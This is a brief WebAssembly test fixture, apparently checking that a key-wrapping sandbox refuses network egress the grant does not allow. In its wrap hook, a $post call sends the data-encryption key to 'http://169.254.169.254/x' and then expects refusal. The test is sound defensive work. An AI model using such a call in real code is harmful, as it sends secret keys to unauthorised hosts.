;; attack: sends what it is to wrap to a server that the grant does not list, and traps if it was let through
;; row: egress that is not granted
;; must: unwrap opened

;;@ wrap
(call $post (i32.const 3072) (i32.const 24) (local.get $dek) (local.get $len))
(call $must-be-refused)
(call $wrapped (call $turned (local.get $dek) (local.get $len)) (local.get $len) (i32.const 2052) (i32.const 1))

;;@ module
(data (i32.const 3072) "http://169.254.169.254/x")
